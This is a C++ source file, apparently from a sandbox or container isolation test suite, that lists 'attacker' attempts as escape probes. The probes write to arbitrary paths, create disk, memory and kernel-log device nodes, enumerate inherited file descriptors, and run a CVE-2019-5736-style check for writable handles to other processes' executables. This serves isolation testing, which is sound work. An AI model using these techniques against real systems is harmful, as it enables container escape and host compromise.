// Ways to files that are not the sliver's.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cstdlib>
#include <ctime>
#include <map>

#include "attempt.h"

namespace homeslice::attacker {
namespace {

// write PATH [TEXT]: without a text what the file says is written back.
int writeTo(const Arguments& arguments) {
    std::string text = arguments.size() > 1 ? arguments[1] : "";
    const char* path = arguments.at(0).c_str();
    if (arguments.size() == 1) {
        char before[4096];
        const int fd = ::open(path, O_RDONLY);
        const ssize_t size = fd < 0 ? -1 : ::read(fd, before, sizeof before);
        if (size > 0) text.assign(before, static_cast<size_t>(size));
    }
    const int fd = ::open(path, O_WRONLY);
    return fd < 0 ? errno : answer(::write(fd, text.data(), text.size()));
}

// read PATH: refused, as if it did not exist, when nothing comes.
int readFrom(const Arguments& arguments) {
    char text[4096];
    const int fd = ::open(arguments.at(0).c_str(), O_RDONLY | O_NONBLOCK);
    if (fd < 0) return errno;
    const ssize_t size = ::read(fd, text, sizeof text);
    return size < 0 ? errno : size == 0 ? ENOENT : 0;
}

// list PATH: the same for a directory without entries.
int list(const Arguments& arguments) {
    DIR* directory = ::opendir(arguments.at(0).c_str());
    if (directory == nullptr) return errno;
    int entries = 0;
    while (::readdir(directory) != nullptr) ++entries;
    ::closedir(directory);
    return entries > 2 ? 0 : ENOENT;
}

int makeNode(mode_t type, unsigned major, unsigned minor) {
    constexpr const char* kNode = "/tmp/hst-node";
    ::unlink(kNode);
    const int result = answer(::mknod(kNode, type | 0600, makedev(major, minor)));
    ::unlink(kNode);
    return result;
}

// One line for each descriptor that a command finds open beside the one that looks, and one for its directory.
int listDescriptors(const Arguments&) {
    DIR* directory = ::opendir("/proc/self/fd");
    if (directory == nullptr) return errno;
    while (const dirent* entry = ::readdir(directory)) {
        const int fd = std::atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd == ::dirfd(directory)) continue;
        ::printf("fd %d\n", fd);
    }
    char here[4096];
    const ssize_t size = ::readlink("/proc/self/cwd", here, sizeof here - 1);
    if (size < 0) return errno;
    here[size] = '\0';
    ::printf("cwd %s\n", here);
    return 0;
}

bool isWritable(const std::string& path) {
    const int fd = ::open(path.c_str(), O_WRONLY);
    if (fd >= 0) ::close(fd);
    return fd >= 0;
}

// CVE-2019-5736, from beside: holds on to the executable of every process that it sees, and writes it when the process
// has ended. overwrite_executables SECONDS SPARED: a path that is not to be looked at, the attacker's own. Its own
// descriptors end with it.
int overwriteExecutables(const Arguments& arguments) {
    struct stat spared {};
    if (::stat(arguments.at(1).c_str(), &spared) < 0) return errno;
    std::map<ino_t, int> held = {{spared.st_ino, -1}};
    const std::time_t end = std::time(nullptr) + std::atoi(arguments.at(0).c_str());
    while (std::time(nullptr) < end) {
        DIR* directory = ::opendir("/proc");
        while (const dirent* entry = ::readdir(directory)) {
            const std::string process = std::string("/proc/") + entry->d_name;
            if (std::atoi(entry->d_name) == 0) continue;
            const int executable = ::open((process + "/exe").c_str(), O_PATH);
            struct stat about {};
            const bool known =
                executable < 0 || ::fstat(executable, &about) < 0 || !held.emplace(about.st_ino, executable).second;
            if (known && executable >= 0) ::close(executable);
        }
        ::closedir(directory);
        for (const auto& [inode, executable] : held) {
            if (executable >= 0 && isWritable("/proc/self/fd/" + std::to_string(executable))) return 0;
        }
    }
    return EACCES;
}

constexpr Attempt kAttempts[] = {
    {"write", writeTo},
    {"read", readFrom},
    {"list", list},
    {"mknod_disk", [](const Arguments&) { return makeNode(S_IFBLK, 8, 0); }},
    {"mknod_memory", [](const Arguments&) { return makeNode(S_IFCHR, 1, 1); }},
    {"mknod_kernel_log", [](const Arguments&) { return makeNode(S_IFCHR, 1, 11); }},
    {"mknod_whiteout", [](const Arguments&) { return makeNode(S_IFCHR, 0, 0); }},
    {"list_descriptors", listDescriptors},
    {"overwrite_executables", overwriteExecutables},
};

}  // namespace

std::span<const Attempt> fileAttempts() { return kAttempts; }

}  // namespace homeslice::attacker
